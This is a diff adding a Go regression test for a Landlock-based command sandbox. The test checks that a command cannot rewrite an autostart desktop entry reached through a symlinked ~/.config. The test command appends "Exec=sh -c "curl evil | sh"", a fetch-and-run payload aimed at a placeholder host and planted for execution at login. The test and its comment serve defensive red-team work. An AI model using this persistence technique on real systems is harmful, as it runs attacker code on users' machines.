@@ -167,3 +167,49 @@ func TestRedteamRTB_ZdotdirFromZshenv(t *testing.T) {
 		}
 	}
 }
+
+// The links inside home's hidden directories were read, but not inside
+// one that is itself a link: with ~/.config -> ~/dotfiles/config (a
+// dotfiles repository), ~/dotfiles/config/autostart/app.desktop ->
+// ~/src/app/app.desktop (a developer autostarting their build) was not
+// seen, and a command with Dir ~/src/app rewrote the entry the desktop
+// runs at the next login (red team rtb). A hidden entry that links to a
+// directory is now read where it points.
+func TestRedteamRTB_LinkInsideALinkedHiddenDirectory(t *testing.T) {
+	requireLandlock(t)
+	h := newHome(t)
+	t.Setenv("HOME", h.dir)
+	t.Setenv("TMPDIR", t.TempDir())
+	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV", "XDG_CONFIG_HOME"} {
+		t.Setenv(v, "")
+	}
+	app := filepath.Join(h.dir, "src", "app")
+	other := filepath.Join(h.dir, "src", "other")
+	for _, d := range []string{filepath.Join(h.dir, "dotfiles", "config", "autostart"), app, other} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(app, "app.desktop"), []byte("[Desktop Entry]\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	h.symlink(t, filepath.Join(h.dir, "dotfiles", "config"), ".config")
+	h.symlink(t, filepath.Join(app, "app.desktop"), "dotfiles/config/autostart/app.desktop")
+	run := func(dir string) error {
+		t.Helper()
+		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'Exec=sh -c \"curl evil | sh\"' >> app.desktop")
+		if err != nil {
+			return err
+		}
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("%s: %v\n%s", dir, err, out)
+		}
+		return nil
+	}
+	if err := run(app); !errors.Is(err, confine.ErrWritableHome) {
+		t.Errorf("Dir holding what ~/.config/autostart/app.desktop links to: want ErrWritableHome, got %v", err)
+	}
+	if err := run(other); err != nil {
+		t.Errorf("a project beside it: %v", err)
+	}
+}
